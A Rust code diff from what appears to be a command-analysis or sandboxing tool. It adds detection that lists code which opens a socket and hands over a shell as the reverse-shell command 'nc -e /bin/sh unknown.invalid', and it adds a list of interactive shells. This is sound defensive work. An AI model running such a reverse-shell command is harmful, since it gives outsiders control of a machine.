@@ -12,13 +12,15 @@ use super::refusal::Refusal;
 use super::texts::{Argument, UNKNOWN};
 use super::tree::Span;
 use super::unwrapping::Unwrapped;
-use crate::code::{
-    self, Carried, CodeEffect, CodeEffectKind, Language, Operand, Setting, Unfollowed,
-};
+use crate::code::{Carried, CodeEffect, CodeEffectKind, Language, Operand, Setting, Unfollowed};
 use crate::opaque::Reason;
+use crate::paths::base_name;
 
 /// Effects of one piece of code that are listed; each is a command. What has more is marked.
 const MAX_EFFECTS: usize = 500;
+
+/// The programs calls of database libraries are listed as.
+const DATABASE_CLIENTS: [&str; 4] = ["mongosh", "mysql", "psql", "sqlite3"];
 
 /// Where code comes from.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -33,6 +35,8 @@ pub(super) enum Source {
         asks: bool,
         /// It takes texts out of a code, so that what it hands on is asked about, too.
         decodes: bool,
+        /// It says what becomes of a database step by step, and back: that is what it is for.
+        migrates: bool,
     },
 }
 
@@ -41,7 +45,8 @@ pub(super) fn language(program: &str) -> Option<Language> {
     let stem = program.trim_end_matches(|letter: char| letter.is_ascii_digit() || letter == '.');
     Some(match stem {
         "python" | "pypy" | "ipython" => Language::Python,
-        "node" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node" | "zx" => Language::JavaScript,
+        "node" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node" | "zx" | "esno" | "esr" | "jiti"
+        | "babel-node" | "vite-node" => Language::JavaScript,
         "ruby" | "jruby" => Language::Ruby,
         "perl" => Language::Perl,
         "php" => Language::Php,
@@ -66,7 +71,7 @@ pub(super) fn run(
     span: &Span,
     source: Source,
 ) -> Result<(), Refusal> {
-    let reading = code::read(language, text, command.listing.budget());
+    let reading = command.listing.read_code(language, text);
     if source == Source::Inline && reading.opaque.is_some() {
         command.mark(Reason::InlineCode);
     }
@@ -131,6 +136,11 @@ pub(super) fn run(
     {
         command.mark(Reason::InlineCode);
     }
+    if reading.opens_socket && hands_over_shell(&reading, language, source) {
+        let words =
+            ["nc", "-e", "/bin/sh", UNKNOWN_HOST].map(|word| Argument::literal(word, span.clone()));
+        command.starts_apart(Wrapping::Commanding, words.to_vec())?;
+    }
     for effect in reading.effects.iter().take(MAX_EFFECTS) {
         let before = Arc::clone(&command.listing.environment.directory);
         let directory = effect
@@ -147,6 +157,71 @@ pub(super) fn run(
         listed?;
     }
     Ok(())
+}
+
+/// Stands for a host that is not looked for: what is done to it is the point.
+const UNKNOWN_HOST: &str = "unknown.invalid";
+
+/// Whether code that has a connection of its own also has what is handed out over one: a shell that waits
+/// for lines, or a way to run whatever arrives. It is listed as the program that does just that.
+fn hands_over_shell(reading: &code::Reading, language: Language, source: Source) -> bool {
+    // Awk knows connections only by the names of files nobody else uses.
+    if language == Language::Awk {
+        return true;
+    }
+    let waits = |words: &[&str]| {
+        let Some((program, rest)) = words.split_first() else {
+            return false;
+        };
+        let idle = |word: &&str| {
+            let option = word.starts_with('-') && !word.contains('c');
+            option || word.contains(['<', '>'])
+        };
+        SHELLS.contains(&base_name(program)) && rest.iter().all(idle)
+    };
+    let inline = source == Source::Inline;
+    let hands_over = |effect: &CodeEffect| match &effect.kind {
+        CodeEffectKind::Run(words) => {
+            let known: Option<Vec<&str>> = words.iter().map(known).collect();
+            known.is_some_and(|words| waits(&words))
+                || (inline && words.first() == Some(&Operand::Unknown))
+        }
+        CodeEffectKind::Shell(Operand::Known(line)) => {
+            waits(&line.split_whitespace().collect::<Vec<_>>())
+        }
+        CodeEffectKind::Shell(Operand::Unknown) | CodeEffectKind::Eval => inline,
+        CodeEffectKind::Shell(Operand::Starts(_))
+        | CodeEffectKind::Delete { .. }
+        | CodeEffectKind::Write { .. }
+        | CodeEffectKind::Append { .. }
+        | CodeEffectKind::Read { .. }
+        | CodeEffectKind::ChangeMode { .. }
+        | CodeEffectKind::Rename { .. }
+        | CodeEffectKind::Send { .. }
+        | CodeEffectKind::Print(_)
+        | CodeEffectKind::Connect(_) => false,
+    };
+    let evaluates = inline && reading.opaque == Some(Unfollowed::Evaluates);
+    evaluates || reading.effects.iter().any(hands_over)
+}
+
+/// Shells that read lines for want of a script.
+const SHELLS: [&str; 8] = [
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "ksh",
+    "ash",
+    "cmd.exe",
+    "powershell.exe",
+];
+
+fn known(operand: &Operand) -> Option<&str> {
+    match operand {
+        Operand::Known(text) => Some(text),
+        Operand::Starts(_) | Operand::Unknown => None,
+    }
 }
 
 /// Lists one effect.
@@ -204,6 +279,13 @@ fn list(
             return Ok(());
         }
     };
+    if matches!(source, Source::Loaded { migrates: true, .. })
+        && words
+            .first()
+            .is_some_and(|word| DATABASE_CLIENTS.contains(&word.unquoted()))
+    {
+        return Ok(());
+    }
     match effect.setting.as_deref() {
         Some(under) => start_under(command, under, words, span),
         None => command.starts_apart(Wrapping::Commanding, words),
